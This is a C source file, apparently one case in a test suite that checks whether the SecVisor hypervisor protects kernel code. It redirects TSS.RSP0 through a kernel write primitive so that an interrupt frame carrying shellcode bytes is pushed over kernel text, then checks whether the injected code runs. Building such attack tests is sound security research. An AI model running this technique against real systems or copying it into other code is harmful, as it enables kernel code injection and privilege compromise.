// Row 8. TSS.RSP0 led to kernel text: the processor itself pushes an interrupt's frame, whose RSP field is code, over it.
// Source: a write primitive by the task-state segment; events delivered onto approved frames.
// Ends: natively succeeded; beneath SecVisor restored, tampered.
#include "common/attack.h"
#include <string.h>
#include <unistd.h>

__attribute__((noreturn)) static void judge_victim2(long before, const u8 *approved, u64 at)
{
	u8 now[CODE_LENGTH];
	long result;

	kread(at, now, sizeof(now));
	if (!memcmp(now, approved, sizeof(now)))
		failed("nothing was written");
	result = victim();
	if (result == MARK)
		succeeded("an interrupt's frame was run as kernel text");
	if (result == before)
		restored("the frame was pushed, but the approved bytes ran");
	failed("the system call returned %ld", result);
}

ATTACK("stack-over-text")
{
	struct vulnerable_operation op = { .what = VULNERABLE_TABLES };
	u64 at = symbol(VICTIM), alias = map_physical(physical(at), KERNEL_DATA), code, tss, low, high, top;
	u8 approved[CODE_LENGTH];
	long before = victim(), result;

	if (at % 16)
		failed("%s does not begin at a multiple of 16", VICTIM);
	kread(at, approved, sizeof(approved));
	keep_bytes(at - 256, 320);
	if (try_operate(&op))
		failed("no tables");
	low = kread64(op.out[1] + (op.out[3] >> 16));
	high = kread64(op.out[1] + (op.out[3] >> 16) + 8);
	tss = (low >> 16 & 0xffffff) | (low >> 56) << 24 | high << 32;
	top = alias + 16;
	memcpy(&code, "\xb8\x37\x13\0\0\xc3\x90\x90", 8); // mov eax, 0x1337; ret
	keep_bytes(tss + 4, 8);
	u64 stack = kread64(tss + 4);
	about_to("take an interrupt on a stack that is kernel text");
	// All in one go: whatever enters the kernel from user mode meanwhile uses this stack.
	kwrite(tss + 4, &top, 8);
	__asm__ volatile("mov %%rsp, %%rbx; mov %2, %%rsp; int $0x80; mov %%rbx, %%rsp"
			 : "=a"(result)
			 : "a"(20), "r"(code)
			 : "rbx", "r8", "r9", "r10", "r11", "memory", "cc");
	kwrite(tss + 4, &stack, 8);
	judge_victim2(before, approved, at);
}
